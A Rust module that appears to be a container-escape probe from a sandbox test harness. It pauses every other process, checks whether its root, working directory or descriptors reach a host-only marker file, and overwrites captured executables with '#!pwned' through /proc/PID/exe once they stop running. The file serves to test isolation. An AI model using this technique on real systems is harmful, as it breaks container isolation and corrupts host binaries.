//! `probe hunt MARK`: looks into every process that comes, as fast as it can, until SIGTERM, as one who wants out would.
//!
//! Each newcomer is stopped, looked into, let go: its root, its working directory, its descriptors, and its executable, which is
//! written to when nobody runs it any more. MARK is a file of the host that no container is given: whatever leads to it is a way out.
//! Each thing is told once, by name.

use crate::sys;
use std::collections::BTreeSet;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::Duration;

struct Hunt {
    mark: String,
    ours: (u64, u64),
    told: BTreeSet<String>,
    /// Executables that are not this program, with their names.
    caught: Vec<(String, File)>,
}

/// Runs until SIGTERM or SIGINT.
pub fn hunt(mark: &str) -> Result<i32, String> {
    sys::block_signals();
    let me = std::process::id().to_string();
    let exe = std::fs::metadata("/proc/self/exe").map_err(|e| format!("/proc/self/exe: {e}"))?;
    let mut hunt = Hunt {
        mark: mark.to_owned(),
        ours: (exe.dev(), exe.ino()),
        told: BTreeSet::new(),
        caught: Vec::new(),
    };
    hunt.tell("ready");
    loop {
        match sys::wait_signal(Some(Duration::ZERO)) {
            Some(libc::SIGTERM | libc::SIGINT) => return Ok(0),
            Some(libc::SIGCHLD) => drop(sys::reap()),
            _ => {}
        }
        for entry in std::fs::read_dir("/proc").map_err(|e| format!("/proc: {e}"))?.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name != me && name != "1" && name.starts_with(|c: char| c.is_ascii_digit()) {
                hunt.look_into(&name);
            }
        }
        hunt.write_to_what_was_caught();
    }
}

impl Hunt {
    fn tell(&mut self, what: &str) {
        if self.told.insert(what.to_owned()) {
            let mut out = std::io::stdout();
            let _ = writeln!(out, "{what}").and_then(|()| out.flush());
        }
    }

    fn look_into(&mut self, pid: &str) {
        let number = pid.parse().unwrap_or(0);
        let _ = sys::kill(number, libc::SIGSTOP);
        for way in ["root", "cwd"] {
            if self.leads_out(&format!("/proc/{pid}/{way}")) {
                self.tell(&format!("{way} of the host"));
            }
        }
        for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            if self.leads_out(&fd.path().to_string_lossy()) {
                self.tell("descriptor of the host");
            }
        }
        self.take_executable(pid);
        let _ = sys::kill(number, libc::SIGCONT);
    }

    fn leads_out(&self, way: &str) -> bool {
        let up = "/..".repeat(12);
        File::open(format!("{way}{}", self.mark)).is_ok()
            || File::open(format!("{way}{up}{}", self.mark)).is_ok()
    }

    fn take_executable(&mut self, pid: &str) {
        let way = format!("/proc/{pid}/exe");
        let Ok(file) = File::open(&way) else { return };
        let Ok(stat) = file.metadata() else { return };
        if (stat.dev(), stat.ino()) == self.ours || self.caught.len() > 64 {
            return;
        }
        let name = std::fs::read_link(&way).map(|path| path.to_string_lossy().into_owned());
        let name = name.unwrap_or_default();
        if !self.caught.iter().any(|(before, _)| *before == name) {
            self.tell(&format!("executable {name}"));
            self.caught.push((name, file));
        }
    }

    /// The kernel forbids it (ETXTBSY) for as long as somebody runs it.
    fn write_to_what_was_caught(&mut self) {
        let mut written = Vec::new();
        for (name, file) in &self.caught {
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(again)
                && file.write_all(b"#!pwned").is_ok()
            {
                written.push(name.clone());
            }
        }
        for name in written {
            self.tell(&format!("wrote to {name}"));
        }
    }
}
